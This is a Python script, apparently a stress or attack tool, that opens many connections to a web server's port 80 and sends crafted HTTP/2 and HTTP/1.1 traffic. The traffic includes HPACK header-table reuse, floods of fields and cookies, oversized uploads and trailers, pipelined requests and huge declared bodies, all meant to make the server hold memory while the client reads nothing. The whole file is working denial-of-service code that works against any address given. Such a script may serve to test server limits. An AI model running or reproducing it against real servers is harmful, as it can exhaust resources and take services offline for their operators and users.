"""argv[3] clients of argv[2]:80 that have the server hold as much as they can by argv[1], and take nothing.
Says "sent" when all is sent that it takes, and stays."""
import socket
import sys
import time

attack, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
STREAMS = range(1, 257, 2)
END_STREAM, END_HEADERS = 1, 4
# The newest entry of the dynamic table (RFC 7541 2.3.3).
AGAIN = b"\xbe"


def frame(kind, flags, number, payload=b""):
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + number.to_bytes(4, "big") + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def section(path=b"/", method=b"GET"):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"a")]
    return b"".join(literal(*field) for field in fields)


def requests(first, again=AGAIN, times=1):
    """Each with one field that many times, which the first one says."""
    for number in STREAMS:
        fields = (first if number == 1 else again) + again * (times - 1)
        yield frame(1, END_STREAM | END_HEADERS, number, section() + fields)


def uploads(*parts, trailers=b""):
    for number in STREAMS:
        yield frame(1, END_HEADERS, number, section(method=b"POST"))
    for part in parts:
        for number in STREAMS:
            yield frame(0, 0, number, part)
    for number in STREAMS if trailers else ():
        yield frame(1, END_STREAM | END_HEADERS, number, trailers)


def http2():
    # The length in seven bits each.
    large = b"\x40\x01b\x7f" + bytes([(3900 - 127) % 128 + 128, (3900 - 127) // 128]) + b"v" * 3900
    if attack == "fields":
        return requests(b"\x40\x01a\x00", times=95)
    if attack == "too-many-fields":
        return requests(b"\x40\x01a\x00", times=900)
    if attack == "cookies":
        return requests(b"\x40\x06cookie\x01a", times=900)
    if attack == "large-values":
        return requests(large, times=15)
    if attack == "uploads":
        return uploads(*[b"x" * 16000] * 4)
    if attack == "tiny-uploads":
        return uploads(*[b"x"] * 400)
    if attack == "trailers":
        return uploads(*[b"x" * 16000] * 3, trailers=b"\x40\x01a\x00" + AGAIN * 95)
    if attack == "downloads":
        return (frame(1, END_STREAM | END_HEADERS, number, section(b"/big")) for number in STREAMS)
    return None


def http1():
    head = b" HTTP/1.1\r\nHost: a\r\n"
    if attack == "http1-download":
        return [b"GET /big" + head + b"\r\n"]
    if attack == "http1-interim":
        return [b"GET /interim" + head + b"\r\n"]
    if attack == "http1-pipelined":
        return [(b"GET /" + head + b"\r\n") * 5000]
    post = b"POST /" + head
    if attack == "http1-upload":
        return [post + b"Content-Length: 100000000\r\n\r\n", b"x" * 8_000_000]
    return [post + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 5000]


clients = []
for _ in range(count):
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.connect((address, 80))
    client.settimeout(1)
    clients.append(client)
    frames = http2()
    try:
        if frames is None:
            client.sendall(b"".join(http1()))
        else:
            window = (4).to_bytes(2, "big") + (2**20).to_bytes(4, "big")
            greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, window)
            client.sendall(greeting + frame(8, 0, 0, (2**30).to_bytes(4, "big")) + b"".join(frames))
    except OSError:
        # It takes no more, or has ended the connection.
        pass
print("sent", flush=True)
time.sleep(3600)
